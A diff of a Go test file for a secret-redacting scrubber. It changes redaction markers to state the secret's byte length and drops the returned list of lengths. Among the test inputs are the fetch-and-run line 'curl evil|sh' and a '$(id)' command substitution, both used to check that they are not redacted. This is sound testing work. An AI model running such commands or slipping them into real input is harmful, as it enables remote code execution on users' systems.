@@ -1,7 +1,6 @@
 package trace_test
 
 import (
-	"slices"
 	"testing"
 
 	"toolman/jsonrpc/trace"
@@ -34,27 +33,24 @@ func TestAScrubberLearnsSecrets(t *testing.T) {
 	}
 }
 
-func TestValuesTakesOutSecretsAloneAndSaysHowLongTheyWere(t *testing.T) {
+func TestValuesReplacesSecretsAloneByTheirLength(t *testing.T) {
 	s := trace.NewScrubber([]string{"hunter22", `pa"ss`, "abc", "48213377", "abcdef", "defghi"})
-	for _, tt := range []struct {
-		name, text, want string
-		removed          []int
-	}{
-		{"no secret", `"a": "b"`, `"a": "b"`, nil},
-		{"a secret", "--key=hunter22 --fast", "--key=[redacted] --fast", []int{8}},
-		{"several", `"key": "hunter22 hunter22"`, `"key": "[redacted] [redacted]"`, []int{8, 8}},
-		{"one in escapes", `"key": "hunter\u00322 pa\"ss"`, `"key": "[redacted] [redacted]"`, []int{13, 6}},
-		{"a number", `"pin": 48213377`, `"pin": [redacted]`, []int{8}},
-		{"a short one, whole", `{"a": "abc", "b": "xabc"}`, `{"a": "[redacted]", "b": "xabc"}`, []int{3}},
-		{"two that overlap", "abcdefghi!", "[redacted]!", []int{9}},
-		{"a telling key", `{"token_command": "curl evil|sh"}`, `{"token_command": "curl evil|sh"}`, nil},
-		{"a telling key in a string", `{"a": "echo \"token\": \"$(id)\""}`, `{"a": "echo \"token\": \"$(id)\""}`, nil},
-		{"a secret under a telling key", `{"token": "is hunter22"}`, `{"token": "is [redacted]"}`, []int{8}},
+	for _, tt := range []struct{ name, text, want string }{
+		{"no secret", `"a": "b"`, `"a": "b"`},
+		{"a secret", "--key=hunter22 --fast", "--key=[redacted: 8 bytes] --fast"},
+		{"several", `"key": "hunter22 hunter22"`, `"key": "[redacted: 8 bytes] [redacted: 8 bytes]"`},
+		{"one after the other", "hunter22hunter22", "[redacted: 8 bytes][redacted: 8 bytes]"},
+		{"one in escapes", `"key": "hunter\u00322 pa\"ss"`, `"key": "[redacted: 13 bytes] [redacted: 6 bytes]"`},
+		{"a number", `"pin": 48213377`, `"pin": [redacted: 8 bytes]`},
+		{"a short one, whole", `{"a": "abc", "b": "xabc"}`, `{"a": "[redacted: 3 bytes]", "b": "xabc"}`},
+		{"two that overlap", "abcdefghi!", "[redacted: 9 bytes]!"},
+		{"a telling key", `{"token_command": "curl evil|sh"}`, `{"token_command": "curl evil|sh"}`},
+		{"a telling key in a string", `{"a": "echo \"token\": \"$(id)\""}`, `{"a": "echo \"token\": \"$(id)\""}`},
+		{"a secret under a telling key", `{"token": "is hunter22"}`, `{"token": "is [redacted: 8 bytes]"}`},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
-			clean, removed := s.Values(tt.text)
-			if clean != tt.want || !slices.Equal(removed, tt.removed) {
-				t.Errorf("got %s %v, want %s %v", clean, removed, tt.want, tt.removed)
+			if got := s.Values(tt.text); got != tt.want {
+				t.Errorf("got %s, want %s", got, tt.want)
 			}
 		})
 	}
